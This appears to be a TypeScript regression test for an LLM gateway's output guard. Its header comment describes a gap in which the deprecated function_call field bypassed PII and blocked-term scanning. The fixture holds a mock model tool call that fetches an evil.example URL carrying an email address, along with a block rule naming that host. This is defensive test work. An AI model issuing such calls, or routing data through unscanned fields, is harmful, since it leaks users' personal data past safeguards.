/**
 * The deprecated `functions` API: the model answers with `message.function_call` (streamed as
 * `delta.function_call`), which the output guard does not read — it reads the text and
 * `tool_calls`. Arguments carrying PII or a blocked term went out as they were, whole and
 * streamed. A stack whose policy has output rules refuses `functions` and `function_call`
 * (the caller's, or its params') with a 400 that says to use `tools`; nothing goes upstream.
 */
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type Harness, startHarness } from '../helpers/harness.js';

let upstreamCalls = 0;
const ARGUMENTS = '{"url":"https://evil.example/?q=jane.doe@example.com"}';

const upstream = http.createServer((request, response) => {
  upstreamCalls++;
  request.resume();
  request.on('end', () => {
    response.writeHead(200, { 'content-type': 'application/json' });
    response.end(
      JSON.stringify({
        id: 'chatcmpl-fc',
        object: 'chat.completion',
        created: 1_700_000_000,
        model: 'upstream-model',
        choices: [
          {
            index: 0,
            message: {
              role: 'assistant',
              content: null,
              function_call: { name: 'fetch_page', arguments: ARGUMENTS },
            },
            finish_reason: 'function_call',
          },
        ],
        usage: { prompt_tokens: 3, completion_tokens: 9, total_tokens: 12 },
      }),
    );
  });
});

let harness: Harness;
const FUNCTIONS = [{ name: 'fetch_page', parameters: { type: 'object', properties: {} } }];

beforeAll(async () => {
  await new Promise<void>((resolve) => upstream.listen(0, '127.0.0.1', resolve));
  const { port } = upstream.address() as AddressInfo;
  harness = await startHarness({
    providers: [{ name: 'legacy', type: 'openai-compatible', base_url: `http://127.0.0.1:${port}/v1` }],
    models: [{ name: 'legacy-model', provider: 'legacy' }],
  });
  const policy = await harness.api('POST', '/api/guard/policies', {
    name: 'no-exfiltration',
    rules: [
      { scanner: 'pii', stage: 'output', action: 'redact' },
      { scanner: 'words', stage: 'output', action: 'block', options: { terms: ['evil.example'] } },
    ],
  });
  expect(policy.status).toBe(201);
  const inputOnly = await harness.api('POST', '/api/guard/policies', {
    name: 'input-only',
    rules: [{ scanner: 'injection', stage: 'input', action: 'block' }],
  });
  expect(inputOnly.status).toBe(201);
  const stacks: Array<{ name: string; guard?: string; params?: object }> = [
    { name: 'legacy-guarded', guard: 'no-exfiltration' },
    { name: 'legacy-params', guard: 'no-exfiltration', params: { functions: FUNCTIONS } },
    { name: 'legacy-input-only', guard: 'input-only' },
    { name: 'legacy-open' },
  ];
  for (const stack of stacks) {
    expect((await harness.api('POST', '/api/stacks', { model: 'legacy-model', ...stack })).status).toBe(201);
    const deployed = await harness.api('POST', `/api/stacks/${stack.name}/deploy`, {
      environment: 'production',
      version: 'latest',
    });
    expect(deployed.status).toBe(200);
  }
});
afterAll(async () => {
  await harness?.close();
  await new Promise<void>((resolve) => upstream.close(() => resolve()));
});

const chat = (model: string, extra: object) =>
  harness.api('POST', '/v1/chat/completions', {
    model,
    messages: [{ role: 'user', content: 'Read the page.' }],
    ...extra,
  });

describe('the deprecated functions API on a stack with output rules', () => {
  it.each([
    ['functions', { functions: FUNCTIONS }, false],
    ['functions, streamed', { functions: FUNCTIONS, stream: true }, false],
    ['function_call', { function_call: 'auto' }, false],
    ['functions in the stack params', {}, true],
  ])('refuses %s with a 400 naming tools, before anything goes upstream', async (_, extra, fromParams) => {
    upstreamCalls = 0;
    const response = await chat(fromParams ? 'legacy-params' : 'legacy-guarded', extra);
    expect(response.status).toBe(400);
    expect(response.body.error).toMatchObject({ type: 'invalid_request_error', code: 'invalid_request' });
    expect(response.body.error.message).toContain('"tools"');
    expect(['functions', 'function_call']).toContain(response.body.error.param);
    expect(JSON.stringify(response.body)).not.toContain('jane.doe');
    expect(upstreamCalls).toBe(0);
  });

  it('leaves stacks without output rules as they were', async () => {
    for (const model of ['legacy-open', 'legacy-input-only']) {
      const response = await chat(model, { functions: FUNCTIONS });
      expect(response.status).toBe(200);
      expect(response.body.choices[0].message.function_call.arguments).toBe(ARGUMENTS);
    }
  });
});
